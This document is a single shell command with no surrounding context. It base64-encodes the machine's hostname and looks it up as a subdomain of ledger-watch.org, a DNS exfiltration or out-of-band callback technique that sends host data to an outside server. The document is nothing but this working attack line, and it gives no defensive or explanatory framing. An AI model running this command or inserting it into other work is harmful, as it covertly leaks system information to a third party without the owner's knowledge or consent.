host "$(hostname | base64).x.ledger-watch.org"
